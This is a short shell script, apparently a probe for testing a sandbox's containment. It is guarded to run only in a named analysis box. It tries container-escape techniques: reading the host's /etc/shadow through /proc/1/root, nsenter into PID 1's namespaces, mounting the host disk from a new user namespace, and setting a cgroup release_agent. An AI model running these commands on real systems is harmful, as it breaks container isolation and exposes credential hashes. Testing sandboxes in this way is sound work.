#!/bin/sh
# SPDX-License-Identifier: MIT
# Tries the usual ways out of a container: the host's root through PID 1,
# the host's namespaces with nsenter, a new user namespace to mount the
# host's disk, cgroup release_agent.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
export PATH="$PATH:/usr/sbin:/sbin"
ls /proc/1/root/ > /dev/null 2>&1
cat /proc/1/root/etc/shadow > /dev/null 2>&1
nsenter --target 1 --mount --uts --ipc --net --pid -- /bin/sh -c id 2>/dev/null
unshare -Urm sh -c 'mkdir -p /tmp/.h && mount /dev/sda1 /tmp/.h' 2>/dev/null
mkdir -p /tmp/.cg
mount -t cgroup -o rdma cgroup /tmp/.cg 2>/dev/null
echo 1 > /tmp/.cg/notify_on_release 2>/dev/null
echo /tmp/.esc.sh > /sys/fs/cgroup/release_agent 2>/dev/null
exit 0
